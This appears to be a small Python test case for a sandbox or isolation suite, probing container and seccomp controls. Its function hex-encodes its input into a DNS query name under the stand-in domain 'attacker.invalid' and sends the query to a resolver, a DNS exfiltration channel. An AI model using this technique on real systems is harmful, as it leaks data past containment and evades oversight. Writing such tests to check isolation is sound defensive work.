"""Query a name server for a name that contains the function's input, because servers forward queries."""

ATTACK = {"controls": [["container", "seccomp"]]}
import socket
import struct


def target(x):
    labels = [x.tobytes().hex()[:48].encode(), b"attacker", b"invalid"]
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    question = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
    # A connected socket, as resolvers use it.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.connect(("127.0.0.1", WORLD["udp"]))
        resolver.send(question)
    return x
